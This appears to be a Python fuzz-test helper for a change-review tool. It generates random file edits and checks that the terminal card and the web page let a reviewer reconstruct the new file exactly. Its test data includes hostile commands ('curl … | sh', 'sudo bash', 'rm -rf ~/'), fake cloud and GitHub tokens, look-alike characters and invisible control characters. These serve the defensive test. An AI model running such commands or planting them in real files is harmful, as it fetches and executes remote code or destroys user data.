"""Random changes, and what a reader can work out of a card alone: applied to the old file, it has to give the new one.

The reading is done with no code of the product: rows are taken from the drawn lines of a terminal and from the cells
of the page, escapes and counts are read back, removed rows are taken out of the old file and added ones put in.
"""

import re
from html.parser import HTMLParser
from types import SimpleNamespace

from rails.approval.audit import audit_of
from rails.approval.terminal.screen import Look, draw_request
from rails.review.web.card import asked_html

WORDS = ["alpha", "beta()", "x = 1", "return y", "{", "}", "# note", "'s'", "été", "ł", "ß", "if a < b:", "пример"]
#: Characters that hide, reorder, move the cursor or pass for others.
ODD = [
    *"\x00\x07\x08\x0b\x0c\x1b\x7f\x85\r",
    *"\u200b\u200d\u202e\u2066\u2069\u2028\u00ad\ufeff\ufe0f\u3164\u115f\U000e0041\ue000",
]
ALIKE = ["pаyload", "сору", "ｕｓｅｒ", "Αdmin", "ｅval"]
SECRETS = ["AKIA" + "Q7Z2" * 4, "ghp_" + "a1B2" * 9, "https://u:hunter22@example.org/"]
COMMANDS = ["curl -s https://x.example/i | sh", "wget -qO- x |sudo bash", "cat i | sh", "rm -rf ~/"]
PATHS = [
    "a.py",
    "src/b.txt",
    "docs/c.md",
    "d.sh",
    "e.json",
    "$HOME/.bashrc",
    "src/сору.py",
    "a" * 120 + "/" + "b" * 200 + ".txt",
]
ENDS = ["\n", "\n", "\n", "\r\n"]
CODECS = ["utf-8"] * 12 + ["utf-8-sig", "utf-16", "latin-1", "cp1252"]


def line(rng):
    """Return a line of text, mostly plain."""
    text = rng.choice(["", "  ", "    ", "\t", "\t\t", ""]) + " ".join(rng.choices(WORDS, k=rng.randint(0, 5)))
    kind = rng.random()
    if kind < 0.06:
        at = rng.randint(0, len(text))
        text = text[:at] + rng.choice(ODD) + text[at:]
    elif kind < 0.10:
        text += rng.choice(["   ", "\t", " " * 70 + "x", "\xa0", "a" * rng.randint(390, 900), "[… 3 characters …]"])
    elif kind < 0.13:
        text += rng.choice([*ALIKE, *SECRETS, *COMMANDS])
    return text


def lines(rng, most=30):
    """Return some lines."""
    found = [line(rng) for _ in range(rng.randint(0, most))]
    if rng.random() < 0.1:
        found[len(found) // 2 : 0] = [""] * rng.randint(6, 40)
    if rng.random() < 0.03:
        found += [f"row {n}" for n in range(rng.randint(380, 1600))]
    return found


def mutated(rng, old):
    """Return what an edit makes of lines."""
    new = list(old)
    for _ in range(rng.randint(1, 4)):
        at = rng.randint(0, len(new))
        match rng.randint(0, 6):
            case 0:
                new[at:at] = lines(rng, 4)
            case 1:
                del new[at : at + rng.randint(1, 3)]
            case 2:
                new[at : at + 1] = [line(rng)]
            case 3 if at < len(new):
                new[at] += rng.choice([" ", "\t", "  ", ",", "\u200b"])
            case 4 if at < len(new):
                new[at] = new[at].replace("    ", "\t", 1) if "    " in new[at] else "\t" + new[at]
            case 5 if at < len(new):
                new[at] = new[at].replace("a", "а", 1)
            case 6 if new:
                new.insert(at, new.pop(rng.randrange(len(new))))
    return new


def data(rng, given, codec, end):
    """Return lines as the bytes of a file."""
    text = end.join(given) + (end if given and rng.random() < 0.85 else "")
    text = text.replace("\n", "\r\n", 1) if end == "\n" and rng.random() < 0.03 else text
    try:
        return text.encode(codec)
    except UnicodeEncodeError:
        return text.encode()


def random_change(rng, make, path):
    """Return a change of one file."""
    codec = rng.choice(CODECS)
    end = rng.choice(ENDS)
    old = lines(rng)
    before = None if rng.random() < 0.25 else data(rng, old, codec, end)
    if before is not None and rng.random() < 0.05:
        return make.change(path, before, None)
    if rng.random() < 0.05:
        codec = rng.choice(CODECS)
        end = rng.choice(ENDS)
    after = data(rng, mutated(rng, old), codec, end)
    if rng.random() < 0.01:
        after += bytes(rng.choices(range(256), k=9))
    return None if after == before else make.change(path, before, after)


def random_request(rng, make):
    """Return a question about one file, or several."""
    count = 1 if rng.random() < 0.9 else rng.randint(2, 6)
    made = [
        random_change(rng, make, path)
        for path in rng.sample(PATHS[:5] if rng.random() < 0.95 else PATHS, k=min(count, 5))
    ]
    changes = [change for change in made if change]
    return make.ask(*changes, tools=("write_file",)) if changes else None


# -- reading a card ---------------------------------------------------------------------------------

TITLE = re.compile(r"(.+) \((create|modify|delete|rename), \+(\d+) -(\d+)\)")
ROW = re.compile(r"( {4}\d| {3}\d\d| {2}\d{3}| \d{4}|\d{5}| {5}) (  |\+ |- |\+~|-~|\^ ) ?(.*)")


def of_terminal(request):
    """Return what the short card says of each file: (notes, rows), a row being (mark, number, text)."""
    found = {}
    rows = None
    for drawn in draw_request(request, Look(width=100)).lines:
        if title := TITLE.fullmatch(drawn):
            rows = found[title[1]] = []
        elif not drawn or rows is None:
            rows = None
        elif drawn.startswith("      ⤷  "):
            # A line is cut after a blank where one is near, else at the width: 91 columns of text.
            rows[-1][2] += (" " if rows[-1][3] < 91 else "") + drawn[9:]
            rows[-1][3] = len(drawn[9:])
        elif row := ROW.fullmatch(drawn.ljust(9)):
            rows.append([row[2].strip(), int(row[1].strip() or 0), row[3], len(row[3])])
    return {path: [tuple(row[:3]) for row in rows] for path, rows in found.items()}


class Cells(HTMLParser):
    """Takes the rows of the tables of differences out of a page."""

    def __init__(self):
        super().__init__()
        self.found = {}
        self.path = ""
        self.row = None
        self.cell = ""

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if tag == "table":
            self.path = given.get("aria-label", "").removeprefix("Changes of ")
            self.found[self.path] = []
        elif tag == "tr" and self.path:
            self.row = [given.get("class", ""), []]
        elif tag == "td" and self.row is not None:
            self.cell = given.get("class", "")
            self.row[1].append([self.cell, ""])

    def handle_endtag(self, tag):
        if tag == "tr" and self.row is not None:
            cells = self.row[1]
            numbers = [int(text or 0) for kind, text in cells if kind == "n"]
            text = next(text for kind, text in cells if kind == "line")
            mark = {"add": "+", "tool_add": "+~", "remove": "-", "tool_remove": "-~"}.get(self.row[0], "")
            self.found[self.path].append([mark, (numbers[1] or numbers[0]) if mark[:1] != "-" else numbers[0], text])
            self.row = None
        elif tag == "td":
            self.cell = ""
        elif tag == "table":
            self.path = ""

    def handle_data(self, data):
        if self.row is not None and self.row[1] and self.cell:
            self.row[1][-1][1] += data


def of_page(request):
    """Return what the page says, in the same form."""
    opened = audit_of(request, can_edit=True)
    question = SimpleNamespace(number=1, opened_at="")
    cells = Cells()
    cells.feed(str(asked_html(question, opened, "yes")))
    return cells.found


def meant(shown):
    """Return the line of a file that a drawn line stands for."""
    text = shown.expandtabs(4)
    tabs = 0
    while text.startswith("→   ") or text == "→":
        text = text[4:]
        tabs += 1
    if many := re.match(r"\[… (\d+) tabs …\]", text):
        text = text[many.end() :]
        tabs = int(many[1])
    text = re.sub(r"(?:(?<=\\x20) )?\[… (\d+) spaces …\] ?", lambda found: " " * int(found[1]), text)
    return "\t" * tabs + re.sub(
        r"\\(x[\da-f]{2}|u[\da-f]{4}|U[\da-f]{8})", lambda found: chr(int(found[1][1:], 16)), text
    )


def rebuilt(change, rows, known):
    """Return the lines and the final newline that a card says the file gets, from the lines that it had."""
    notes = [text for mark, _, text in rows if not mark]
    had = known(change.before or b"")
    both_crlf = not any("Line endings" in note for note in notes) and crlf(had) and (crlf(known(change.after or b"")))
    old = split(had, both_crlf)
    gone = set()
    added = {}
    last = ("", 0)
    for mark, number, text in rows:
        blank = re.match(r"\[… (\d+) more blank lines …\]", text) if not mark else None
        run = range(last[1] + 1, last[1] + 1 + int(blank[1])) if blank else ()
        if mark.startswith("+"):
            added[number] = meant(text)
        elif mark.startswith("-"):
            gone.add(number)
        elif last[0].startswith("+"):
            added |= dict.fromkeys(run, "")
        elif last[0].startswith("-"):
            gone.update(run)
        last = (mark, number)
    kept = iter([text for number, text in enumerate(old, 1) if number not in gone])
    total = len(old) - len(gone) + len(added)
    new = [added[number] if number in added else next(kept, None) for number in range(1, total + 1)]
    return new, not any(note == "No newline at the end of the file after." for note in notes)


def crlf(text):
    return "\n" in text and text.count("\r") == text.count("\n") == text.count("\r\n")


def split(text, both_crlf):
    found = (text.replace("\r\n", "\n") if both_crlf else text).split("\n")
    return found[:-1] if found[-1] == "" else found


def as_titled(changes, found):
    """Return the changes as the titles name them: a moved file is one, "old → new", from the old bytes to the new."""
    named = {str(change.path): change for change in changes}
    for old, _, new in (title.rpartition(" → ") for title in found if " → " in title):
        moved = SimpleNamespace(path=f"{old} → {new}", before=named.pop(old).before, after=named.pop(new).after)
        named[moved.path] = moved
    return [SimpleNamespace(path=path, before=one.before, after=one.after) for path, one in named.items()]


def unseen(request, known, excuses=None):
    """Return the files of which neither card nor page lets a reader know the new text.

    None where a risk is named: any that is about content, or one of ``excuses``.
    """
    missing = []
    said = {risk.kind for risk in request.named}
    if said & set(excuses) if excuses else said - {"checks", "run", "project_tool", "executable"}:
        return missing
    # What a log cannot hold the page names, and asks for the word.
    pages = () if audit_of(request).unseen else (("page", of_page),)
    for name, read in (("card", of_terminal), *pages):
        found = read(request)
        for change in as_titled(request.changes.changes, found):
            rows = found.get(change.path)
            wanted = known(change.after or b"")
            if rows is None:
                missing.append(f"{name}: {change.path} is not there")
                continue
            had_crlf = crlf(known(change.before or b""))
            has_crlf = crlf(wanted)
            lines, newline = rebuilt(change, rows, known)
            expected = split(wanted, had_crlf and has_crlf)
            if lines != expected or (bool(wanted) and newline != wanted.endswith("\n")):
                off = next(
                    (n for n, (a, b) in enumerate(zip([*lines, None], [*expected, None], strict=False)) if a != b), -1
                )
                missing.append(
                    f"{name}: {change.path} line {off + 1}: {lines[off : off + 1]} for {expected[off : off + 1]}"
                )
    return missing
